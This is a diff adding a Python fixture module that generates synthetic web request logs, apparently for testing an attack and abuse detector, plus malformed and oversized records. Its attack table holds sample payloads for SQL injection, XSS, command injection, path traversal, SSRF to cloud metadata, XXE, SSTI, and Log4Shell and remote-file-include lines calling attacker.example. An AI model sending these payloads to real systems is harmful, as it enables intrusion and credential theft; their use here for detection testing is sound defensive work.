@@ -1,0 +1,141 @@
+"""Made-up request logs with a known truth: which clients attack, which abuse, and which records are no records."""
+import json
+import random
+from datetime import datetime, timezone
+
+BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
+START = datetime(2025, 1, 15, 12, 0, tzinfo=timezone.utc).timestamp()
+
+# One plain attack per family: fields of the flat profile that differ from a benign request.
+ATTACKS = {
+    'sqli': {'path': '/items', 'query': 'id=7%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20accounts--%20'},
+    'xss': {'path': '/search', 'query': 'q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'},
+    'cmdi': {'path': '/ping', 'query': 'host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'},
+    'traversal': {'path': '/download', 'query': 'file=..%2F..%2F..%2F..%2Fetc%2Fpasswd'},
+    'nosql': {'path': '/login', 'query': 'user%5B%24ne%5D=nobody&password%5B%24gt%5D='},
+    'ldap': {'path': '/people', 'query': 'name=*)(uid%3D*))(%7C(uid%3D*'},
+    'ssrf': {'path': '/preview', 'query': 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F'},
+    'ssti': {'path': '/hello', 'query': 'name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D'},
+    'xxe': {'path': '/import', 'method': 'POST', 'content_type': 'application/xml',
+            'body': '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'},
+    'rce': {'path': '/', 'user_agent': '${jndi:ldap://attacker.example/x}'},
+    'rfi': {'path': '/index.php', 'query': 'page=http%3A%2F%2Fattacker.example%2Fshell.txt%3F'},
+    'crlf': {'path': '/go', 'query': 'lang=en%0d%0aSet-Cookie%3A%20session%3Downed'},
+}
+# Those that any rule set finds, for tests that count.
+SURE_ATTACKS = ('sqli', 'xss', 'traversal', 'rce')
+
+
+def record(number, seconds, client, ip, **fields):
+    """One request of the flat profile as bytes; `seconds` counts from START."""
+    when = datetime.fromtimestamp(START + seconds, timezone.utc)
+    whole = {
+        'ts': when.isoformat(timespec='milliseconds').replace('+00:00', 'Z'), 'request_id': f'r{number:08d}',
+        'client_id': client, 'ip': ip, 'method': 'GET', 'scheme': 'https', 'host': 'shop.example.com',
+        'path': f'/products/{number % 9973}', 'query': f'page={number % 17}&sort=name', 'status': 200,
+        'duration_ms': 12.5, 'request_bytes': 420, 'response_bytes': 5120, 'user_agent': BROWSER,
+        'referer': 'https://shop.example.com/', 'headers': {'accept': 'text/html', 'accept-language': 'en-GB'},
+    }
+    whole.update(fields)
+    return json.dumps(whole, separators=(',', ':')).encode()
+
+
+def address(number):
+    """A distinct public-looking address per number below 2^22."""
+    return f'81.{64 + (number >> 16 & 63)}.{number >> 8 & 255}.{number & 255}'
+
+
+def benign(count, first=0, clients=2000, rate=1000.0, seed=1):
+    """Yields requests of well-behaved clients: one address and one browser each, no regular timing."""
+    chance = random.Random(seed + first)
+    for number in range(first, first + count):
+        client = chance.randrange(clients)
+        yield record(number, number / rate + chance.random() * 0.01, f'customer-{client}', address(client))
+
+
+def with_attacks(count, every=100, first=0):
+    """(records, attackers): benign traffic in which each `every`-th record is the only attack of a client of its own."""
+    records, attackers = [], set()
+    for position, line in enumerate(benign(count, first)):
+        number = first + position
+        if position % every == every // 2:
+            client = f'attacker-{number}'
+            family = SURE_ATTACKS[(position // every) % len(SURE_ATTACKS)]
+            line = record(number, number / 1000.0, client, address(100000 + number), **ATTACKS[family])
+            attackers.add(client)
+        records.append(line)
+    return records, attackers
+
+
+def abuser(client='abuser-1', first=9_000_000, seconds=0.0):
+    """Ten requests from six addresses with four user agents, at irregular times: 30 + 20 points."""
+    gaps = [0, 0.3, 2.1, 2.4, 5.9, 6.0, 9.7, 11.2, 15.5, 15.9]
+    return [record(first + i, seconds + gap, client, address(200000 + i % 6),
+                   user_agent=BROWSER.replace('128', str(120 + i % 4))) for i, gap in enumerate(gaps)]
+
+
+def every_kind(quiet_seconds=400):
+    """Attacks of every family, an abuser, an attacker who goes on, and then time enough for episodes to close."""
+    records, number = [], 8_000_000
+    for family, fields in ATTACKS.items():
+        records.append(record(number, 1 + number % 100, f'attacker-{family}', address(300000 + number % 1000), **fields))
+        number += 1
+    for i in range(12):
+        records.append(record(number + i, 20 + i * 1.7, 'attacker-persistent', address(310000), **ATTACKS['sqli']))
+    records += abuser(seconds=30)
+    later = benign(4000, first=0, clients=500)
+    records += [line for line in later]
+    chance = random.Random(5)
+    for i in range(4000):                 # every partition's time moves on
+        client = chance.randrange(500)
+        records.append(record(7_000_000 + i, quiet_seconds + 60 + i * 0.05, f'customer-{client}', address(client)))
+    return records
+
+
+# What may arrive in place of a record, and why it cannot become an event.
+def bad_records():
+    """{name: bytes}"""
+    good = record(1, 1, 'customer-1', address(1))
+    text = good.decode()
+    return {
+        'empty': b'',
+        'blank': b'   ',
+        'truncated': good[:len(good) // 2],
+        'not_json': b'127.0.0.1 - - [15/Jan/2025:12:00:00 +0000] "GET / HTTP/1.1" 200 512',
+        'nested_10000': b'{"a":' * 10_000 + b'1' + b'}' * 10_000,
+        'nested_arrays_10000': text[:-1].encode() + b',"x":' + b'[' * 10_000 + b']' * 10_000 + b'}',
+        'nul_bytes': b'\0' * 64,
+        'only_ff': b'\xff' * 64,
+        'array': b'[1,2,3]',
+        'number': b'42',
+        'null': b'null',
+        'string': b'"GET /"',
+        'two_documents': good + good,
+        'trailing_garbage': good + b' x',
+        'duplicate_key': text.replace('"method":"GET"', '"method":"GET","method":"POST"').encode(),
+        'path_is_number': text.replace(f'"path":"/products/1"', '"path":7').encode(),
+        'status_is_object': text.replace('"status":200', '"status":{}').encode(),
+        'ts_is_wrong': text.replace('2025-01-15T', 'yesterday ').encode(),
+        'ip_is_wrong': text.replace(address(1), '999.1.2.3').encode(),
+        'without_path': text.replace('"path":"/products/1",', '').encode(),
+        'without_ts': text.replace('"ts":', '"tz":').encode(),
+        'status_out_of_range': text.replace('"status":200', '"status":99999999999').encode(),
+        'bad_escape': text.replace('page=', r'page=\q').encode(),
+        'half_surrogate_in_key': text.replace('"scheme"', r'"\ud800"').encode()[:-1],
+    }
+
+
+def tolerated_records():
+    """{name: bytes}: odd, and yet requests that must be judged, not lost."""
+    attack = record(2, 2, 'attacker-odd', address(2), **ATTACKS['sqli'])
+    return {
+        'ff_in_query': attack.replace(b'id=7', b'id=7\xff'),
+        'nul_escape': attack.replace(b'id=7', rb'id=7\u0000'),
+        'unknown_fields': attack[:-1] + b',"zz":[{"a":[1,2,{"b":null}]}]}',
+        'space_around': b'  ' + attack + b' \t',
+    }
+
+
+def huge_record(size=10 * 1024 * 1024):
+    """A well-formed request with a 10 MB body."""
+    return record(3, 3, 'customer-3', address(3), method='POST', body='a' * size)
